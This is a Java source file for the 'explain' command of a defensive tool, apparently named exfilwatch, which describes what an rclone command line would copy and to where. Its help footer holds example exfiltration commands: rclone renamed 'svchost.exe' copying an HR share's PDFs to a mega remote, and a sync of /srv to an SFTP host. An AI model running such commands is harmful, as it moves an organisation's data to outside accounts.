package exfilwatch.cli;

import static java.nio.charset.StandardCharsets.UTF_8;

import exfilwatch.rclone.Os;
import exfilwatch.rclone.Rclone;
import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.io.PrintWriter;
import java.util.List;
import java.util.Map;
import java.util.concurrent.Callable;
import org.jspecify.annotations.Nullable;
import picocli.CommandLine.Command;
import picocli.CommandLine.Model.CommandSpec;
import picocli.CommandLine.Option;
import picocli.CommandLine.ParameterException;
import picocli.CommandLine.Parameters;
import picocli.CommandLine.Spec;

@Command(
    name = "explain",
    mixinStandardHelpOptions = true,
    description = {
      "Says what a command line would do if it is rclone's: what is taken, from where, into whose"
          + " account. Secrets are shown as [REDACTED].",
      "With --jsonl each line of standard input is a JSON string, or an object"
          + " {\"cmd\": …, \"os\": …, \"args\": […], \"env\": {…}}; each gives one line, in order."
    },
    exitCodeList = {"0:explained", "2:usage"},
    footer = {
      "exfilwatch explain -- 'svchost.exe copy \\\\fs\\hr mega:x --include *.pdf'",
      "exfilwatch explain --json --os posix -- 'rclone sync /srv :sftp,host=203.0.113.5:x'",
      "exfilwatch explain --jsonl < command-lines.jsonl"
    })
@SuppressWarnings("NullAway.Init") // picocli fills the fields
final class ExplainCommand implements Callable<Integer> {

  @Option(
      names = "--os",
      paramLabel = "windows|posix",
      completionCandidates = Systems.class,
      description = "whose quoting rules apply (default: told from the command line)")
  private @Nullable Os os;

  @Option(names = "--json", description = "one JSON object instead of text")
  private boolean json;

  @Option(names = "--jsonl", description = "many command lines: JSON lines on standard input")
  private boolean jsonl;

  @Parameters(
      paramLabel = "COMMAND LINE",
      arity = "0..*",
      description = "best in one pair of quotes")
  private List<String> words;

  @Spec private CommandSpec spec;

  @Override
  public Integer call() throws IOException {
    PrintWriter out = spec.commandLine().getOut();
    if (jsonl) {
      explainLines(out);
    } else if (words == null || words.isEmpty()) {
      throw new ParameterException(
          spec.commandLine(), "which command line? explain -- 'COMMAND LINE', or --jsonl");
    } else {
      var explanation =
          words.size() == 1
              ? Rclone.explain(words.get(0), os, null, Map.of())
              : Rclone.explain("", os, words, Map.of());
      out.println(json ? explanation.toJson() : explanation.toText());
    }
    out.flush();
    return Main.OK;
  }

  private void explainLines(PrintWriter out) throws IOException {
    ExplainLine line = new ExplainLine(os);
    BufferedReader in = new BufferedReader(new InputStreamReader(System.in, UTF_8));
    for (String text = in.readLine(); text != null; text = in.readLine()) {
      out.println(line.explain(text));
    }
  }

  private static final class Systems extends EnumNames {
    Systems() {
      super(Os.values());
    }
  }
}
